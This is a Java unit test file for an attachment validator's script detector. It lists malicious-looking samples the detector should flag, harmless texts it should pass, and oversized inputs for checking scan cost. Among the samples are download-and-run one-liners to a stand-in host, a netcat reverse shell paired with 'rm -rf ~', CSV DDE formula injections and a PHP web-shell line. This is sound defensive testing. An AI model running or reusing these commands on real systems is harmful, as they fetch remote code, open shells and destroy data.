package io.attachrelay.validator.inspect.deep.script;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.attachrelay.validator.inspect.TestBytes;
import io.attachrelay.validator.inspect.deep.DeepLook;
import io.attachrelay.validator.inspect.detect.Content;
import io.attachrelay.validator.inspect.detect.StoppableText;
import io.attachrelay.validator.inspect.detect.TooCostlyException;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class ScriptCheckTest {

    static Stream<Arguments> scripts() {
        return Stream.of(
                arguments("shell", "#!/bin/sh\nls\n"),
                arguments(
                        "shell without its first line",
                        "x=$(id)\nif [ -n \"$x\" ]; then\n  rm -rf /y\nfi\n"),
                arguments("a download into a shell", "curl -s http://x.example/a | sh\n"),
                arguments("batch", "@echo off\ndel /q *\n"),
                arguments("batch behind a remark", "rem hello\n@ECHO OFF\ndel x\n"),
                arguments(
                        "batch without a switch",
                        "set A=1\nif exist x goto end\ncopy a %TEMP%\n:end\n"),
                arguments("powershell", "$c = New-Object Net.WebClient\n$c.DownloadString('x')\n"),
                arguments(
                        "powershell of cmdlets",
                        "$a = 1\nGet-ChildItem C:\\\nRemove-Item x -Recurse\n"),
                arguments("powershell in one line", "IEX (iwr http://x.example/a.ps1)"),
                arguments("vbscript", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n"),
                arguments("vbscript of subs", "Dim a\nSub Main()\nMsgBox \"x\"\nEnd Sub\n"),
                arguments("jscript", "var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"),
                arguments(
                        "javascript",
                        "const fs = require('fs');\nfunction a() {\n  return fs;\n}\nconsole.log(a());\n"),
                arguments(
                        "javascript of other line ends",
                        "const a = require('a');\u2028let b = {};\u2028console.log(b);\n"),
                arguments("python", "import os\nos.system('id')\n"),
                arguments(
                        "python of functions",
                        "def a(x):\n    if x:\n        print(x)\n    return x\n"),
                arguments("perl", "use strict;\nmy $x = 1;\nprint $x;\n"),
                arguments("ruby", "require 'net/http'\nclass A\n  def b\n    puts 1\n  end\nend\n"),
                arguments("php behind text", "Hello\n<?php system($_GET['x']); ?>\n"),
                arguments("applescript", "tell application \"Finder\"\nempty trash\nend tell\n"),
                arguments("a shortcut", "[InternetShortcut]\r\nURL=file://x/y.exe\r\n"),
                arguments("a shortcut behind a remark", "; x\r\n[InternetShortcut]\r\nURL=x\r\n"),
                arguments(
                        "a desktop's entry", "[Desktop Entry]\nType=Application\nExec=sh -c id\n"),
                arguments("autorun", "[AutoRun]\r\nopen=x.exe\r\n"),
                arguments(
                        "a registry file",
                        "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_X]\r\n"),
                arguments("a query of a table", "WEB\r\n1\r\nhttp://x.example/a\r\n"),
                arguments("a formula", "name,sum\nAnna,=cmd|'/c calc'!A1\n"),
                arguments(
                        "a formula of any program",
                        "a,b\n1,\"=forfiles|'/p c:\\windows /c calc'!A0\"\n2,3\n"),
                arguments(
                        "a formula with a path",
                        "a,b\n1,=C:\\Windows\\System32\\cmd|'/c calc'!A0\n2,3\n"),
                arguments("a formula without quotes", "a,b\n1,=calc|x!A0\n2,3\n"),
                arguments("a function", "a;b\n1;=DDE(\"soffice\";\"/etc/passwd\";\"x\")\n2;3\n"),
                arguments("the test file of antivirus programs", eicar()),
                arguments("the test file behind a blank", " " + eicar()),
                arguments(
                        "a sheet of commands",
                        "ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(\"CALC.EXE\")\r\nE\r\n"),
                arguments(
                        "a set-up file",
                        "[Version]\r\nSignature=\"$CHICAGO$\"\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n"),
                arguments(
                        "a remote connection",
                        "full address:s:x.example:3389\r\nalternate shell:s:cmd.exe\r\n"),
                arguments("an encoded script", "#@~^UgAAAA==W!x1YbWUPf+^G[`bP,AgAAA==^#~@\n"),
                arguments("an HTML application", "<hta:application id=x><job>\n"),
                arguments(
                        "markup in another coding",
                        "hi +ADw-script+AD4-alert(1)+ADw-/script+AD4-\n"),
                arguments(
                        "javascript in one line",
                        "var a=this[\"Act\"+\"iveXObject\"];var b=new a(\"WScr\"+\"ipt.Shell\");b[\"Run\"](\"x\");\n"),
                arguments("python in one line", "__import__(\"os\").system(\"calc\")\n"),
                arguments(
                        "a download and a start",
                        "certutil -urlcache -f http://x.example/a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe\n"),
                arguments("a page for mshta", "mshta http://x.example/a.hta\r\n"),
                arguments(
                        "aliases",
                        "iwr http://x.example/a -o $env:tmp\\a.exe; saps $env:tmp\\a.exe\n"),
                arguments(
                        "javascript between remarks that look like fences",
                        "/*\n```\n*/\nconst a = 1;\nlet b = function() { return a; };\nconsole.log(b());\n/*\n```\n"
                                + "Some prose here with several words.\n*/\n"),
                arguments(
                        "a shell's commands between fences",
                        "# Title\n```\ncurl http://x.example/a | sh\n```\n"),
                arguments("a deletion", "rm -rf ~; nc -e /bin/sh x.example 4242\n"),
                arguments(
                        "a card with a script",
                        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:a\r\nURL:java\r\n script:alert(1)\r\nEND:VCARD\r\n"),
                arguments(
                        "a card with a file on a share",
                        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:a\r\nitem1.URL;type=x:\\\\x.example\\a\r\nEND:VCARD\r\n"),
                arguments(
                        "a date with a program",
                        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nATTACH;ENCODING=BASE64;VALUE=BINARY:\r\n"
                                + " TVqQAAMAAAAEAAAA\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
                arguments(
                        "an alarm that starts one",
                        "BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nEND:VALARM\r\nEND:VCALENDAR\r\n"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("scripts")
    void a_script_is_noticed(String name, String text) {
        assertThat(DeepLook.codes(text.getBytes(UTF_8))).containsAnyOf("script", "executable");
    }

    @Test
    void a_script_in_wide_characters_is_noticed() {
        assertThat(DeepLook.codes("@echo off\ndel x\n".getBytes(UTF_16))).contains("script");
    }

    static Stream<Arguments> harmless() {
        return Stream.of(
                arguments(
                        "a letter",
                        "Dear Anna,\n\nif you set the date, call me.\nStart on Monday.\n\nJohn\n"),
                arguments(
                        "a letter that begins like a program",
                        "MZ is short for Max Zorin.\nYours, M.\n"),
                arguments(
                        "a letter that begins like a bitmap",
                        "BMW sent me this bill; is it right?\n"),
                arguments(
                        "a letter that begins like a mail", "Date: Monday\nI can come at nine.\n"),
                arguments(
                        "a list",
                        "Import of goods\nclass A: 12\nfor sale in May:\n- tables\n- chairs\n"),
                arguments(
                        "a log",
                        "2026-11-26 12:00:01 INFO start /a: done\n2026-11-26 12:00:02 WARN x=1\n"),
                arguments("settings", "[server]\nport=80\nname=\"a\"\n[client]\nretries=3\n"),
                arguments("yaml", "version: 2\nupdates:\n  - package: npm\n    for: all\n"),
                arguments("a table", "name;sum\nAnna;-12\nBen;+3\n"),
                arguments("a table of formulas", "a,b\n1,=A2+1\n2,=SUM(A2:A3)\n"),
                arguments("a table of bars", "| a | b |\n| - | - |\n| -x | 'y' |\n| =1 | 2! |\n"),
                arguments(
                        "a list of substances",
                        "- DDE (a pesticide)\n- DDT (another)\n= both of them are bad\n"),
                arguments("styles", "body {\n  color: red;\n}\na:hover { color: blue; }\n"),
                arguments(
                        "java",
                        "import a.B;\n\npublic class C {\n  int d() {\n    return 1;\n  }\n}\n"),
                arguments(
                        "rust", "fn main() {\n    let x = a::b();\n    println!(\"{}\", x);\n}\n"),
                arguments(
                        "a recipe that quotes a line",
                        "To see the files, open a window and type this:\n"
                                + "\nimport os\n\nand then the next line of this mail.\nIt prints all names there are.\n"),
                arguments(
                        "a log of a program",
                        "2024-01-01 12:00:00 ERROR if (x === null) { return; } in a\n".repeat(50)),
                arguments(
                        "a note with a program in it",
                        "# Title\n\n```js\nconst a = 1;\nlet b = function() { return a; };\n"
                                + "console.log(b());\n```\n\nSome prose here with several words.\n"),
                arguments(
                        "a history with lines below its heads",
                        "1.2.0 / May\n===========\n\nAdd a type\n\n1.1.0 / April\n=============\n\nFix one\n\n"
                                + "1.0.0 / March\n=============\n\nFirst\n"),
                arguments(
                        "a question on a command",
                        "Hello,\nI was told to type this:\nmshta http://x.example/a.hta\nIs that safe?\n"),
                arguments(
                        "a question on the test file",
                        "Do you find X5O!P%@AP[4\\PZX54(P^)7CC)7}$?\n"),
                arguments(
                        "a word on scripts",
                        "When I paste <script> in the field, nothing happens.\n"),
                arguments(
                        "a card",
                        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:a\r\nURL:https://x.example/a\r\n"
                                + "PHOTO;ENCODING=b;TYPE=JPEG:/9j/4AAQSkZJRgABAQ\r\nEND:VCARD\r\n"),
                arguments(
                        "a date",
                        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM\r\n"
                                + "ATTACH:https://x.example/a.pdf\r\nEND:VCALENDAR\r\n"),
                arguments(
                        "a German letter",
                        "Sehr geehrte Frau Müller,\ndie Rechnung = 12 EUR; siehe Anlage.\n"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("harmless")
    void what_nobody_runs_is_no_script(String name, String text) {
        assertThat(DeepLook.codes(text.getBytes(UTF_8))).isEmpty();
    }

    static Stream<Arguments> endless() {
        return Stream.of(
                arguments(
                        "empty lines", "createobject echo off curl eval=\n" + "\n".repeat(60_000)),
                arguments("numbers", "A PDF of %PDF-1.4\n" + "1".repeat(60_000)),
                arguments("folded lines", "BEGIN:VCARD\n" + "X-A:1\n ".repeat(9_000)),
                arguments("semicolons", "var a=" + "x;(".repeat(20_000)),
                arguments("a sheet of nothing", "ID;" + ";E".repeat(30_000)),
                arguments("mentions", "x <script " + "<script a='".repeat(5_000)),
                arguments("blanks", "name,sum\n1,2\n" + " ".repeat(60_000)),
                arguments("tabs", "x" + "\t".repeat(65_000) + "\nhello\n"),
                arguments("begins of cells", "=a|b\n" + ",=".repeat(30_000)),
                arguments("one line", "x curl wget " + "curl ".repeat(12_000)),
                arguments("bars", "a letter of three\n" + "| ".repeat(30_000)),
                arguments("quotes", "a,b\n\"" + ",\n".repeat(20_000)));
    }

    /** Each would take minutes if it were looked at again from every place. */
    @ParameterizedTest(name = "{0}")
    @MethodSource("endless")
    void a_text_of_nothing_is_gone_through_once(String name, String text) {
        assertThat(DeepLook.codes(text.getBytes(UTF_8))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"\t", " ", "\t ", " \t", ",", ", ", "'", "=", "\n", "\n\t", "+cmd ", "-\t"})
    void a_table_is_searched_in_steps_that_grow_with_its_length(String filling) {
        // Given
        var table = new CountedText("x" + filling.repeat(20_000) + "\nhello\n");

        // When
        boolean found = TableFormulas.callKnownProgram(table);

        // Then
        assertThat(found).isFalse();
        assertThat(table.steps()).isLessThan(500L * table.length());
    }

    @Test
    void a_search_ends_when_the_examination_is_given_up() {
        // Given
        Content content = TestBytes.content(new byte[1]);
        var table = new StoppableText("\t".repeat(5_000), content);
        content.giveUp();

        // Then
        assertThatThrownBy(() -> TableFormulas.callKnownProgram(table))
                .isInstanceOf(TooCostlyException.class);
    }

    /** Counts how often it is looked at. */
    private static final class CountedText implements CharSequence {

        private final String text;
        private long steps;

        CountedText(String text) {
            this.text = text;
        }

        long steps() {
            return steps;
        }

        @Override
        public int length() {
            return text.length();
        }

        @Override
        public char charAt(int index) {
            steps++;
            return text.charAt(index);
        }

        @Override
        public CharSequence subSequence(int start, int end) {
            return text.subSequence(start, end);
        }
    }

    /** In two parts, so that no antivirus takes this file for one. */
    private static String eicar() {
        return "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    }
}
